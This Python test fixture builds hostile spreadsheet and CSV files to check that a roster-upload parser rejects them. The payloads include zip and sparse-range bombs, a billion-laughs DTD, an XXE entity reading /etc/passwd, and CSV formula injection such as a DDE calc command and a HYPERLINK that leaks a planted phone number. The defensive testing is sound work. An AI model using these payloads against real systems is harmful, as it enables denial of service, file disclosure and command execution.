"""A corpus of hostile and malformed roster files, built in memory at test time.

Every file plants the same fake ID number and phone (``PLANTED``) where it can, so that the
tests can grep every answer, report and log line for them.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl

from demo.rostergen import make_id_number

ID_NUMBER = make_id_number(424242)
PHONE = "13987654321"
PLANTED = (ID_NUMBER, PHONE, ID_NUMBER[:6] + ID_NUMBER[8:17])
HEADER = ["乡镇", "村", "姓名", "身份证号码", "金额", "备注"]
#: The planted row: its amount is not a number, so a file read to the end is still refused.
ROW = ["城关镇", "东风村", "张秘密", ID_NUMBER, "一百块", f"电话{PHONE}"]


@dataclass(frozen=True)
class Case:
    """One hostile file: its name, the name it is uploaded as, and the codes that may answer."""

    name: str
    filename: str
    build: Callable[[], bytes]
    codes: frozenset[str]


# --- Builders ------------------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
    '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_BOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _book(sheet_name: str = "花名册") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        f'<sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _roster_rows() -> str:
    """The header and one row of the planted roster, as sheet XML."""
    rows = []
    for number, values in enumerate((HEADER, ROW), start=1):
        cells = "".join(_cell(f"{chr(65 + i)}{number}", v) for i, v in enumerate(values))
        rows.append(f'<row r="{number}">{cells}</row>')
    return "".join(rows)


def xlsx(
    sheet_data: str = "", *, after: str = "", extra: dict[str, bytes | str] | None = None,
    sheet_name: str = "花名册", compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:  # fmt: skip
    """Return an xlsx whose one sheet holds the planted roster, then SHEET_DATA's rows."""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'
        f"{_roster_rows()}{sheet_data}</sheetData>{after}</worksheet>"
    )
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS,
        "xl/workbook.xml": _book(sheet_name), "xl/_rels/workbook.xml.rels": _BOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet, **(extra or {}),
    }  # fmt: skip
    return zip_of(members, compression)


def zip_of(members: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def openpyxl_roster(*, sheet_title: str = "花名册", extra_rows: int = 0) -> bytes:
    """Return a plain, valid roster written by openpyxl (with the planted values)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = sheet_title
    sheet.append(HEADER)
    sheet.append(ROW)
    for n in range(extra_rows):
        sheet.append(["城关镇", "东风村", f"李{n}", "", "abc", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


_ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
    'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
    'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
    'spreadsheet"/></manifest:manifest>'
)
_ODS_CELL = (
    f'<table:table-cell office:value-type="string"><text:p>{ID_NUMBER}</text:p></table:table-cell>'
)


def ods(table: str) -> bytes:
    """Return an .ods whose one table holds TABLE's rows."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:'
        'names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:'
        'xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="表1">'
        f"{table}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        archive.writestr("META-INF/manifest.xml", _ODS_MANIFEST, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _repeated_cell(columns: int) -> str:
    """Return the planted ODS cell repeated over COLUMNS columns."""
    repeat = f'<table:table-cell table:number-columns-repeated="{columns}" '
    return _ODS_CELL.replace("<table:table-cell ", repeat)


def csv_text(*lines: str, encoding: str = "utf-8") -> bytes:
    return "\n".join([",".join(HEADER), ",".join(ROW), *lines]).encode(encoding)


def xls_wide() -> bytes:
    """Return a real .xls (BIFF8) with a cell in its 256th column."""
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("宽表")
    for col, value in enumerate(HEADER):
        sheet.write(0, col, value)
    for col, value in enumerate(ROW):
        sheet.write(1, col, value)
    sheet.write(1, 255, PHONE)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def ole2(*names: str, body: bytes = b"") -> bytes:
    """Return bytes that start like an OLE2 compound file and carry the stream NAMES."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return head + b"".join(n.encode("utf-16-le") for n in names) + body + ID_NUMBER.encode()


def _laughs() -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    return f"<!DOCTYPE lolz [{entities}]>"


def _with_doctype(doctype: str) -> Callable[[], bytes]:
    """Return a builder of the planted xlsx whose sheet declares DOCTYPE."""

    def build() -> bytes:
        data = xlsx()
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members: dict[str, bytes | str] = {i: archive.read(i) for i in archive.namelist()}
        sheet = members["xl/worksheets/sheet1.xml"]
        assert isinstance(sheet, bytes)
        members["xl/worksheets/sheet1.xml"] = sheet.replace(b"?>", b"?>" + doctype.encode(), 1)
        return zip_of(members)

    return build


def _merges(count: int, ref: Callable[[int], str]) -> str:
    cells = "".join(f'<mergeCell ref="{ref(i)}"/>' for i in range(count))
    return f'<mergeCells count="{count}">{cells}</mergeCells>'


def _big_rows(rows: int, cols: int) -> str:
    return "".join(
        f'<row r="{r}">' + "".join(f'<c r="{chr(65 + c)}{r}"><v>1</v></c>' for c in range(cols))
        + "</row>"
        for r in range(3, rows + 3)
    )  # fmt: skip


def _truncated() -> bytes:
    data = openpyxl_roster()
    return data[: len(data) // 2]


def _many_entries() -> bytes:
    return zip_of({**{f"xl/media/{i}.xml": "<a/>" for i in range(2_000)}, "xl/workbook.xml": ""})


def _duplicate_names() -> bytes:
    buffer = io.BytesIO(xlsx())
    giant = '<worksheet><sheetData><row r="1"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    with zipfile.ZipFile(buffer, "a") as archive, _quiet():
        archive.writestr("xl/worksheets/sheet1.xml", giant + "</worksheet>")
    return buffer.getvalue()


def _quiet():
    import warnings

    manager = warnings.catch_warnings()
    manager.__enter__()
    warnings.simplefilter("ignore")

    class _Exit:
        def __enter__(self) -> None:
            return None

        def __exit__(self, *exc: object) -> None:
            manager.__exit__(*exc)

    return _Exit()


def _encrypted_member() -> bytes:
    data = bytearray(xlsx())
    # Set the "encrypted" flag bit in every local and central header.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, found + offset)[0]
            struct.pack_into("<H", data, found + offset, flags | 1)
            start = found + 4
    return bytes(data)


def _random(size: int, seed: int) -> bytes:
    import random

    return random.Random(seed).randbytes(size)


def _docx() -> bytes:
    return zip_of({"[Content_Types].xml": _CONTENT_TYPES, "word/document.xml":
                   f"<w:document><w:t>{ID_NUMBER}</w:t></w:document>"})  # fmt: skip


def _nested(depth: int) -> str:
    return "<a>" * depth + ID_NUMBER + "</a>" * depth


def _big_text(megabytes: int) -> str:
    """Return about MEGABYTES of random Chinese text (UTF-8): it does not compress away."""
    import random

    chars = random.Random(megabytes).choices(range(0x4E00, 0x9FA5), k=megabytes * 350_000)
    return "".join(map(chr, chars))


def _big_cell_xlsx() -> bytes:
    return xlsx(f'<row r="3">{_cell("C3", _big_text(10) + PHONE)}{_cell("D3", ID_NUMBER)}</row>')


def _sst_bomb() -> bytes:
    sst = (f'<sst xmlns="{_MAIN}" count="4000000000" uniqueCount="4000000000">'
           f"<si><t>{ID_NUMBER}</t></si></sst>")  # fmt: skip
    return xlsx(extra={"xl/sharedStrings.xml": sst})


# fmt: off
CASES: list[Case] = [
    # Sparse ranges: a few bytes that claim billions of cells.
    Case("sparse_xlsx_a1_xfd1048576", "r.xlsx",
         lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
         frozenset({"too_large_sheet"})),
    Case("sparse_xlsx_wide_row", "r.xlsx",
         lambda: xlsx('<row r="3"><c r="XFD3"><v>1</v></c></row>'),
         frozenset({"too_large_sheet"})),
    Case("sparse_xlsx_deep_and_wide", "r.xlsx",
         lambda: xlsx('<row r="1048576"><c r="CV1048576"><v>1</v></c></row>'),
         frozenset({"too_large_sheet"})),
    Case("xlsx_cells_without_references", "r.xlsx",
         lambda: xlsx("<row>" + "<c><v>1</v></c>" * 5_000 + "</row>"),
         frozenset({"too_large_sheet"})),
    Case("xlsx_rows_without_references", "r.xlsx",
         lambda: xlsx("<row/>" * 1_200_000 + "<row>" + "<c><v>1</v></c>" * 30 + "</row>",
                      compression=zipfile.ZIP_STORED),
         frozenset({"too_large_sheet"})),
    Case("xlsx_prefixed_cells", "r.xlsx",
         lambda: xlsx('<x:row r="9"><x:c r="XFD1048576"><v>1</v></x:c></x:row>'),
         frozenset({"too_large_sheet"})),
    Case("xlsx_attribute_order", "r.xlsx",
         lambda: xlsx('<row r="9"><c t="n" r="XFD1048576"><v>1</v></c></row>'),
         frozenset({"too_large_sheet"})),
    Case("xlsx_shared_strings_count", "r.xlsx", _sst_bomb, frozenset({"too_large"})),
    Case("xlsx_duplicate_member_names", "r.xlsx", _duplicate_names, frozenset({"corrupt"})),
    # Merge storms.
    Case("xlsx_overlapping_merges", "r.xlsx",
         lambda: xlsx(_big_rows(300, 26), after=_merges(3_000, lambda i: "A1:Z300")),
         frozenset({"merged_overlap"})),
    Case("xlsx_too_many_merges", "r.xlsx",
         lambda: xlsx(after=_merges(10_001, lambda i: f"G{i + 3}:H{i + 3}")),
         frozenset({"too_many_merged"})),
    # Zip tricks.
    Case("zip_bomb_ratio", "r.xlsx",
         lambda: xlsx(extra={"xl/media/zeros.xml": b"<a>" + bytes(30 * 1024 * 1024) + b"</a>"}),
         frozenset({"zip_bomb"})),
    Case("zip_truncated", "r.xlsx", _truncated, frozenset({"corrupt", "not_spreadsheet"})),
    Case("zip_thousands_of_entries", "r.xlsx", _many_entries, frozenset({"too_many_entries"})),
    Case("zip_encrypted_members", "r.xlsx", _encrypted_member,
         frozenset({"encrypted", "corrupt"})),
    Case("zip_plain_archive", "r.xlsx", lambda: zip_of({"a.txt": ID_NUMBER}),
         frozenset({"not_spreadsheet"})),
    # XML traps.
    Case("xml_billion_laughs", "r.xlsx", _with_doctype(_laughs()), frozenset({"xml_dtd"})),
    Case("xml_external_entity", "r.xlsx",
         lambda: xlsx(extra={"xl/sharedStrings.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM '
                             '"file:///etc/passwd">]><sst>&e;</sst>'}),
         frozenset({"xml_dtd"})),
    Case("xml_doctype_in_workbook", "r.xlsx",
         lambda: zip_of({"xl/workbook.xml": "<!DOCTYPE workbook><workbook/>",
                         "xl/worksheets/sheet1.xml": "<worksheet/>"}),
         frozenset({"xml_dtd"})),
    Case("xml_utf16_sheet", "r.xlsx",
         lambda: xlsx(extra={"xl/styles.xml": "<styleSheet/>".encode("utf-16")}),
         frozenset({"xml_dtd"})),
    Case("xml_deeply_nested", "r.xlsx",
         lambda: xlsx(after=_nested(200_000), compression=zipfile.ZIP_STORED),
         frozenset({"not_number", "unreadable"})),
    Case("xlsx_huge_cell", "r.xlsx", _big_cell_xlsx, frozenset({"too_long"})),
    Case("xlsx_formula_sheet_name", "r.xlsx",
         lambda: openpyxl_roster(sheet_title="=HYPERLINK(\"x\")", extra_rows=3),
         frozenset({"not_number", "id_empty"})),
    Case("xlsx_workbook_without_sheets", "r.xlsx",
         lambda: zip_of({"xl/workbook.xml": f'<workbook xmlns="{_MAIN}"/>'}),
         frozenset({"unreadable", "no_header"})),
    # ODS: repeated rows and columns.
    Case("ods_repeated_columns_with_a_value", "r.ods",
         lambda: ods(f"<table:table-row>{_repeated_cell(16384)}</table:table-row>"),
         frozenset({"too_large_sheet"})),
    Case("ods_repeated_rows_and_columns", "r.ods",
         lambda: ods('<table:table-row table:number-rows-repeated="1048576">'
                     + _repeated_cell(1024) + "</table:table-row>"),
         frozenset({"too_large_sheet", "unreadable"})),
    Case("ods_empty_rows_then_a_far_cell", "r.ods",
         lambda: ods('<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
                     'table:number-columns-repeated="16380"/></table:table-row><table:table-row>'
                     '<table:table-cell table:number-columns-repeated="16380"/>'
                     f"{_ODS_CELL}</table:table-row>"),
         frozenset({"too_large_sheet", "unreadable"})),
    # OLE2 / .xls.
    Case("xls_256_columns", "r.xls", xls_wide, frozenset({"too_large_sheet"})),
    Case("ole_encrypted_xlsx", "r.xlsx", lambda: ole2("EncryptionInfo", "EncryptedPackage"),
         frozenset({"encrypted"})),
    Case("ole_without_workbook", "r.xls", lambda: ole2("WordDocument"),
         frozenset({"not_spreadsheet"})),
    Case("ole_garbage_workbook", "r.xls", lambda: ole2("Workbook", body=_random(4096, 1)),
         frozenset({"unreadable", "password", "too_large"})),
    # Files of the wrong kind.
    Case("docx_named_xlsx", "r.xlsx", _docx, frozenset({"not_spreadsheet"})),
    Case("pdf_named_xlsx", "r.xlsx", lambda: b"%PDF-1.7\n" + ID_NUMBER.encode(),
         frozenset({"not_spreadsheet"})),
    Case("png_named_xlsx", "r.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + _random(512, 2),
         frozenset({"not_spreadsheet"})),
    Case("gzip_named_csv", "r.csv", lambda: b"\x1f\x8b\x08" + _random(512, 3),
         frozenset({"not_spreadsheet"})),
    Case("random_bytes_xlsx", "r.xlsx", lambda: _random(20_000, 4),
         frozenset({"not_spreadsheet", "bad_encoding"})),
    Case("binary_csv", "r.csv", lambda: _random(20_000, 5) + ID_NUMBER.encode(),
         frozenset({"not_spreadsheet", "bad_encoding"})),
    Case("html_named_xls", "r.xls",
         lambda: f"<html><table><tr><td>{ID_NUMBER}</td></tr></table></html>".encode(),
         frozenset({"html"})),
    # Text: empty, encodings, NUL bytes, sizes.
    Case("empty_file", "r.csv", lambda: b"", frozenset({"empty"})),
    Case("only_utf8_bom", "r.csv", lambda: b"\xef\xbb\xbf", frozenset({"no_header"})),
    Case("only_utf16_bom", "r.csv", lambda: b"\xff\xfe", frozenset({"no_header"})),
    Case("csv_mixed_encodings", "r.csv",
         lambda: csv_text() + "\n城关镇,西风村,王五,".encode("gbk") + ID_NUMBER.encode(),
         frozenset({"bad_encoding"})),
    Case("csv_nul_bytes", "r.csv", lambda: csv_text() + b"\x00\x00" + PHONE.encode(),
         frozenset({"not_spreadsheet"})),
    Case("csv_utf16_with_controls", "r.csv",
         lambda: "\ufeff姓名\x01\x02".encode("utf-16-le") + PHONE.encode("utf-16-le"),
         frozenset({"not_spreadsheet"})),
    Case("csv_100k_columns", "r.csv", lambda: ("x," * 100_000 + ID_NUMBER).encode(),
         frozenset({"too_large_sheet"})),
    Case("csv_huge_cell", "r.csv",
         lambda: csv_text(f'城关镇,东风村,"{"张" * 3_500_000}{PHONE}",{ID_NUMBER},1,'),
         frozenset({"unreadable", "too_long"})),
    Case("csv_formulas", "r.csv",
         lambda: csv_text(f'城关镇,东风村,=HYPERLINK("http://x?{PHONE}"),{ID_NUMBER},=1+1,',
                          "城关镇,东风村,=cmd|' /C calc'!A0,1,abc,@SUM(1)"),
         frozenset({"amount_invalid", "id_number_invalid", "duplicate", "id_number_missing"})),
    Case("csv_million_blank_lines", "r.csv", lambda: b"\n" * 1_000_000,
         frozenset({"no_header"})),
]
# fmt: on
